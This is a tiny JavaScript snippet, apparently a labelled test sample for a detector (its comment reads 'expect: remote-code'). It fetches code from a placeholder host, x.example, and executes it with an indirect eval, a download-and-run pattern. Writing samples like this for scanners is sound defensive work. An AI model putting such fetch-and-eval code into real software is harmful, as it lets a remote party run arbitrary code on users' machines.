// expect: remote-code
const get = (u) => new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.response); x.open("GET", u); x.send(); }); get("https://x.example/z").then((c) => { (0,eval)(c); });
